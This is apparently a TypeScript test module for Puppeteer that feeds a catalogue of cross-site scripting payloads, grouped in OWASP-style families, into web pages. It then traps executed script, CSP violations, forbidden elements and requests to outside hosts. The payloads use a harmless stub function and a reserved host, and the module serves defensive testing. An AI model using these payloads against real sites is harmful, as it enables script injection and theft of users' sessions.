/**
 * Texts that want to become script, in families after OWASP's cheat sheet; our own selection. Whatever runs calls `xss()`, opens a
 * dialog or asks `xss.invalid`. Most are short, so that they also fit into names.
 */
import type { Page } from 'puppeteer-core';

const FAMILIES: Record<string, readonly string[]> = {
  script: [
    '<script>xss()</script>',
    '<SCRIPT SRC=https://xss.invalid/x.js></SCRIPT>',
    '<scr<script>ipt>xss()</scr</script>ipt>',
    '<script/x>xss()</script >',
    '<script\n>xss()</script>',
    '"><script>xss()</script>',
    "'><script>xss()</script>",
    '</title><script>xss()</script>',
    '</textarea><script>xss()</script>',
    '</style></script><script>xss()</script>',
    '<<script>xss();//<</script>',
    '<script type=module>import "https://xss.invalid/m.js"</script>',
  ],
  handlers: [
    '<img src=x onerror=xss()>',
    '<img/src=x/onerror=xss()>',
    '<IMG SRC=x ONERROR="xss()">',
    '<img src=x onerror=xss()//',
    '<img """><img src=x onerror=xss()>',
    '<body onload=xss()>',
    '<input autofocus onfocus=xss()>',
    '<select autofocus onfocus=xss()>',
    '<details open ontoggle=xss()>x</details>',
    '<video><source onerror=xss()></video>',
    '<audio src=x onerror=xss()>',
    '<marquee onstart=xss()>x</marquee>',
    '<div onpointerover=xss()>x</div>',
    '<x contenteditable onbeforeinput=xss()>x',
    '<style onload=xss()></style>',
    '<a onmouseover=xss() href=#>x</a>',
    '<p onbeforetoggle=xss() popover id=p>x</p><button popovertarget=p>x',
    '" onfocus=xss() autofocus x="',
    "' onmouseover=xss() x='",
  ],
  svg: [
    '<svg onload=xss()>',
    '<svg/onload=xss()>',
    '<svg><script>xss()</script></svg>',
    '<svg><animate onbegin=xss() attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:xss()"><text y=9>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=xss()>#x"/></svg>',
    '<svg><image href=https://xss.invalid/i.svg></svg>',
    '<svg><foreignObject><iframe onload=xss()></foreignObject></svg>',
  ],
  'javascript:': [
    'javascript:xss()',
    'JaVaScRiPt:xss()',
    'java\tscript:xss()',
    'java\nscript:xss()',
    '\u0001javascript:xss()',
    ' javascript:xss()',
    'javascript&colon;xss()',
    'javascript://example.com/%0axss()',
    'javascript://https://example.com/%0axss()',
    'vbscript:xss()',
    'feed:javascript:xss()',
    '<a href="javascript:xss()">x</a>',
    '<iframe src="javascript:xss()"></iframe>',
    '<form action="javascript:xss()"><button>x</button></form>',
    '<object data="javascript:xss()"></object>',
    '<math href="javascript:xss()">x</math>',
    'view-source:javascript:xss()',
    'blob:https://xss.invalid/x',
  ],
  'data:': [
    'data:text/html,<script>xss()</script>',
    'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==',
    '<iframe src="data:text/html,<script>parent.xss()</script>">',
    '<object data="data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==">',
    '<embed src="data:image/svg+xml,<svg onload=xss() xmlns=http://www.w3.org/2000/svg>">',
    '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  ],
  templates: [
    '{{xss()}}',
    "{{constructor.constructor('xss()')()}}",
    '\u0024{xss()}',
    '\u0024{{xss()}}',
    '<%= xss() %>',
    '#{xss()}',
    '[[xss()]]',
    '{{7*7}}\u0024{7*7}',
    '<!--?lit$xss$-->',
    '?lit$0000$<img src=x onerror=xss()>',
    '{count}{name}{agent}',
  ],
  mutation: [
    '<noscript><p title="</noscript><img src=x onerror=xss()>">',
    '<math><mtext><table><mglyph><style><img src=x onerror=xss()>',
    '<svg></p><style><a id="</style><img src=x onerror=xss()>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss()>',
    '<listing>&lt;img src=x onerror=xss()&gt;</listing>',
    '<template><img src=x onerror=xss()></template>',
    '<!--><img src=x onerror=xss()>-->',
    '<![CDATA[><img src=x onerror=xss()>]]>',
    '&lt;img src=x onerror=xss()&gt;',
    '&#60;img src=x onerror=xss()&#62;',
    '%3Cimg%20src=x%20onerror=xss()%3E',
    '\\u003cimg src=x onerror=xss()\\u003e',
    '\\x3cimg src=x onerror=xss()\\x3e',
  ],
  unicode: [
    '\uff1cimg src=x onerror=xss()\uff1e',
    '<\u0130mg src=x onerror=xss()>',
    '<img\u2028src=x\u2029onerror=xss()>',
    '\u202e>)(ssx=rorreno x=crs gmi<',
    '\ufeff<img src=x onerror=xss()>',
    '<\u200bscript>xss()</script>',
    '\u00bcscript\u00bexss()\u00bc/script\u00be',
    '+ADw-script+AD4-xss()+ADw-/script+AD4-',
    '<im\u0000g src=x onerror=xss()>',
    '\ud83d<img src=x onerror=xss()>',
  ],
  style: [
    '<style>*{background:url(https://xss.invalid/c)}</style>',
    '<link rel=stylesheet href=https://xss.invalid/c.css>',
    '<div style="background:url(https://xss.invalid/d)">x</div>',
    '<style>@import "https://xss.invalid/i.css";</style>',
    'x;background:url(https://xss.invalid/e)',
    '</style><img src=x onerror=xss()>',
    '<img src=https://xss.invalid/pixel>',
    '<base href=https://xss.invalid/>',
    '<meta http-equiv=refresh content="0;url=https://xss.invalid/">',
    '<link rel=prefetch href=https://xss.invalid/p>',
  ],
  links: [
    'https://example.com/"onmouseover="xss()',
    "https://example.com/'onmouseover='xss()",
    'https://example.com/<img src=x onerror=xss()>',
    'https://example.com/"><script>xss()</script>',
    'https://javascript:xss()@example.com/',
    'https://example.com/javascript:xss()',
    'http://javascript:xss()',
    '//javascript:xss()',
    'www.example.com"onclick="xss()',
    'mailto:a@example.com"onclick="xss()',
    'a@example.com?body=<script>xss()</script>',
    'tel:+331"onclick="xss()',
    '[x](javascript:xss())',
    '![x](x"onerror="xss())',
    '[x]: javascript:xss()',
    '<https://example.com/javascript:xss()>',
    'ftp://example.com/x',
    'file:///etc/passwd',
    'https://example.com/\u202ejavascript:xss()',
  ],
};

export const PAYLOADS: readonly string[] = Object.values(FAMILIES).flat();

/** Goes before every page, see `beforePages`. */
export const xssTrap = `(() => {
  const ran = [];
  const violations = [];
  for (const name of ['xss', 'alert', 'confirm', 'prompt', 'print']) {
    Object.defineProperty(window, name, { value: (...words) => void ran.push([name, ...words].join(' ')) });
  }
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) =>
    violations.push([effectiveDirective, blockedURI, sample].join(' ')));
  Object.assign(window, { trapped: { ran, violations } });
})()`;

/** What came of it in one page: everything but `links` is to be empty. */
export interface Found {
  /** Script that ran, and what policies had to forbid. */
  ran: string[];
  violations: string[];
  /** Elements and attributes that no text may bring. */
  elements: string[];
  links: number;
}

/** Looks through a page with all its shadow roots. */
export function lookThrough(page: Page): Promise<Found> {
  return page.evaluate(() => {
    const { ran, violations } = (window as unknown as { trapped: { ran: string[]; violations: string[] } }).trapped;
    const elements: string[] = [];
    let links = 0;
    const mayLeadTo = /^(https?|mailto|tel):/;
    const never =
      'iframe, object, embed, base, form[action], marquee, math, foreignObject, animate, use, mglyph, listing, script, meta, link';
    const isStranger = (source: string) =>
      !/^(blob:|\/)/.test(source) && new URL(source, location.href).hostname !== location.hostname;
    const faults = (element: Element): string[] =>
      [...element.attributes].flatMap(({ name, value }) => {
        if (name.startsWith('on') || (name === 'src' && isStranger(value)))
          return `${element.localName} ${name} ${value}`;
        return [];
      });
    const visit = (root: Document | ShadowRoot): void => {
      for (const element of root.querySelectorAll('*')) {
        if (element.shadowRoot) visit(element.shadowRoot);
        if (root !== document && element.matches(never)) elements.push(element.outerHTML);
        elements.push(...faults(element));
        if (!(element instanceof HTMLAnchorElement && element.hasAttribute('href'))) continue;
        links += 1;
        if (!mayLeadTo.test(element.href)) elements.push(`link ${element.href}`);
      }
    };
    visit(document);
    return { ran: [...ran], violations: [...violations], elements, links };
  });
}

/** What a page shows or asks for that it must not: dialogs, and requests to anybody but these hosts. */
export function watch(page: Page, hosts: readonly string[]): string[] {
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const { protocol, host } = new URL(request.url());
    if (/^(https?|wss?):$/.test(protocol) && !hosts.includes(host)) seen.push(request.url());
  });
  page.on('popup', () => void seen.push('a window'));
  return seen;
}
